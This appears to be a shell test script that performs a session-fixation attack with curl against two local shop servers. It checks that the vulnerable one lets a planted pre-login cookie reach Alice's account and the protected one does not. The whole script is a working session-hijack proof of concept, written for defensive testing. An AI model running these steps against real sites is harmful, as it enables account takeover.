#!/bin/sh
# Session fixation with curl, one process for each request, against shops that run already.
set -eu
header='X-Forwarded-Proto: https'
json='Content-Type: application/json'
login='{"email":"alice@shop.example","password":"rabbit-hole-7"}'
cookie_in() { sed -n 's/^[Ss]et-[Cc]ookie: \(__Host-sid=[^;]*\).*/\1/p'; }
attack() {
  shop="http://127.0.0.1:$1"
  planted=$(curl -sS -D - -o /dev/null -H "$header" -H "$json" -d '{"item":"hat"}' "$shop/basket" | cookie_in)
  alices=$(curl -sS -D - -o /dev/null -H "$header" -H "$json" -H "Cookie: $planted" -d "$login" "$shop/auth/login" | cookie_in)
  mallory=$(curl -sS -H "$header" -H "Cookie: $planted" "$shop/me")
  alice=$(curl -sS -H "$header" -H "Cookie: ${alices:-$planted}" "$shop/me")
  case $alice in *alice@shop.example*) ;; *) exit 1 ;; esac
  case "$2 $mallory" in vulnerable*alice@shop.example*) ;; vulnerable*) exit 1 ;; *alice@shop.example*) exit 1 ;; esac
}
attack "$VULNERABLE_PORT" vulnerable
attack "$PROTECTED_PORT" protected
